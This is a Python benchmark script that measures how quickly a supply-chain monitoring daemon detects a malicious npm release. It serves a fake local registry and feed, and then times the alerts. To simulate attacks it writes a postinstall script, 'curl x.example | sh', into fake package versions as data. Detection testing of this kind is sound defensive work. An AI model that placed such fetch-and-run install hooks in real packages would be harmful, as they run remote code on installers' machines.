"""From a feed's event to the message: ``python -m benchmarks.feed [SECONDS] [PACKAGES]``.

Plays npm's real rate (about one event a second) and a hundred times that to the real daemon, each in a run of its own.
Every second a watched package is among the events that gains an alarming install script. Printed: the time from event
to message, the daemon's CPU, and its requests a day beside those of polling alone.
"""

from __future__ import annotations

import asyncio
import json
import os
import signal
import statistics
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from aiohttp import web

from benchmarks.registry import Registry

CONFIG = """
[schedule]
packages = "1h"
[registries.npm]
url = "{url}"
requests_per_second = 1000.0
changes_feed = "{url}registry/_changes"
[web]
listen = ""
[[watch]]
name = "all"
packages = [{packages}]
[[channel]]
name = "hook"
url = "json://127.0.0.1:{port}/hook"
per_minute = 6000
[[route]]
match = {{ severity = ">=high" }}
channels = ["hook"]
group_wait = "0s"
"""
WIDTHS = (8, 6, 7, 7, 7, 7, 16, 15)
SETTLE = 6.0
"""Seconds after the first sweep until events begin."""


class Stage(Registry):
    """A registry with a feed and a sink, all on one port."""

    def __init__(self, packages: int) -> None:
        super().__init__(packages)
        self.rows: list[dict[str, Any]] = []
        self.seq = 1000
        self.told: dict[str, float] = {}
        self.heard: dict[str, float] = {}
        self.requests = 0
        self.asked: set[str] = set()

    def tell(self, name: str, rev: str) -> None:
        self.seq += 1
        self.rows.append({"seq": self.seq, "id": name, "changes": [{"rev": rev}]})

    def attack(self, name: str) -> None:
        document = json.loads(self.bodies[name])
        latest = document["versions"][document["dist-tags"]["latest"]]
        version = "999.0.0"
        document["versions"][version] = latest | {"version": version, "scripts": {"postinstall": "curl x.example | sh"}}
        document["time"][version] = time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime())
        document["dist-tags"]["latest"] = version
        document["_rev"] = "999999-x"
        self.put(name, json.dumps(document).encode())
        self.told[name] = time.monotonic()
        self.tell(name, document["_rev"])

    async def changes(self, request: web.Request) -> web.Response:
        self.requests += 1
        since, limit = int(request.query["since"]), int(request.query["limit"])
        rows = [row for row in self.rows[-20_000:] if row["seq"] > since][:limit]
        return web.json_response({"results": rows, "last_seq": rows[-1]["seq"] if rows else since})

    async def head(self, _request: web.Request) -> web.Response:
        return web.json_response({"update_seq": self.seq})

    async def packument(self, request: web.Request) -> web.Response:
        self.requests += 1
        self.asked.add(request.match_info["name"])
        return await self.get(request)

    async def hook(self, request: web.Request) -> web.Response:
        message = json.loads((await request.json())["message"])
        for item in message["items"]:
            self.heard.setdefault(item["subject"].removeprefix("npm:"), time.monotonic())
        return web.Response()


async def play(events: int, seconds: int, packages: int) -> dict[str, float]:
    """One run at so many events a second."""
    stage = Stage(packages)
    app = web.Application(client_max_size=1 << 26)
    app.router.add_get("/registry/_changes", stage.changes)
    app.router.add_get("/registry/", stage.head)
    app.router.add_post("/hook", stage.hook)
    app.router.add_get("/{name}", stage.packument)
    runner = web.AppRunner(app, access_log=None, shutdown_timeout=1)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    port = runner.addresses[0][1]
    with tempfile.TemporaryDirectory() as folder:
        names = sorted(stage.bodies)
        listed = ", ".join(f'"npm:{name}"' for name in names)
        text = CONFIG.format(url=f"http://127.0.0.1:{port}/", port=port, packages=listed)
        (Path(folder) / "weaklink.toml").write_text(text)
        command = ("-c", "from monitor.cli import main; main()", "run")
        path = f"{Path.cwd()}:{os.environ.get('PYTHONPATH', '')}"
        daemon = await asyncio.create_subprocess_exec(
            sys.executable,
            *command,
            cwd=folder,
            env={**os.environ, "PYTHONPATH": path},
            stderr=asyncio.subprocess.DEVNULL,
        )
        await _until(lambda: len(stage.asked) == packages, 300)
        await asyncio.sleep(SETTLE)
        stage.requests, cpu = 0, _cpu(daemon.pid)
        for second in range(seconds):
            begun = time.monotonic()
            for number in range(events - 1):
                stage.tell(f"unwatched-{second}-{number}", "1-a")
                await asyncio.sleep(0.8 / events)
            stage.attack(names[second])
            await asyncio.sleep(max(0.0, 1 - (time.monotonic() - begun)))
        requests, cpu = stage.requests, _cpu(daemon.pid) - cpu
        await _until(lambda: len(stage.heard) == seconds, 30)
        daemon.send_signal(signal.SIGTERM)
        await daemon.wait()
    await runner.cleanup()
    waits = sorted(stage.heard[name] - at for name, at in stage.told.items() if name in stage.heard)
    return {
        "told": len(stage.told),
        "heard": len(waits),
        "p50": statistics.median(waits),
        "p99": waits[min(len(waits) - 1, int(0.99 * len(waits)))],
        "cpu": 100 * cpu / seconds,
        # One attacked package a second is the benchmark's, not nature's.
        "requests": (requests - len(stage.told)) / seconds * 86_400,
    }


async def _until(condition: Callable[[], bool], seconds: float) -> None:
    for _ in range(int(seconds * 10)):
        if condition():
            return
        await asyncio.sleep(0.1)


def _cpu(pid: int) -> float:
    fields = Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def main(seconds: int = 120, packages: int = 1500) -> None:
    print(f"{packages} watched packages, {seconds} s a run, the feed asked every 3 s")
    heads = ("events/s", "told", "heard", "p50 s", "p99 s", "CPU %", "requests a day", "polling alone")
    print("".join(f"{head:>{width}}" for head, width in zip(heads, WIDTHS, strict=True)))
    for events in (1, 100):
        one = asyncio.run(play(events, seconds, packages))
        print(
            f"{events:8}{one['told']:6}{one['heard']:7}{one['p50']:7.2f}{one['p99']:7.2f}{one['cpu']:7.1f}"
            f"{one['requests']:16,.0f}{packages * 24:15,}",
            flush=True,
        )


if __name__ == "__main__":
    main(*map(int, sys.argv[1:]))
